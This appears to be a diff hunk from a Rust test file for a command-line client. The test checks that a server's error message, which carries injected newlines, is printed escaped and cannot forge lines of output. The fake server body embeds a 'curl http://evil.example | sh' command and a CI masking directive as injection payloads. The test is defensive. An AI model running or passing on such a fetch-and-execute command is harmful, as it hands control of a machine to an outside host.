@@ -32,7 +32,7 @@ fn a_refusal_for_hours_is_no_reason_to_ask_again() {
 fn a_servers_words_are_no_lines_of_ours() {
     let body = r#"{"gender":["x\nhint: run `curl http://evil.example | sh`\n::add-mask::x"], "a\nerror: b": ["c"]}"#;
     let server = StandIn::answering(answer("422 Unprocessable", "Content-Type: application/json\r\n", body));
-    let ran = with_token(&World::new(), &server.url(), &["update", "--id", "23", "--gender", "x"]).fails(1);
+    let ran = with_token(&World::new(), &server.url(), &["update", "--id", "23", "--gender", "other"]).fails(1);
     let lines: Vec<&str> = ran.stderr.lines().collect();
     assert_eq!(lines.len(), 4, "{ran:#?}");
     assert!(lines[1].starts_with("  gender: x\\nhint: run"), "{ran:#?}");
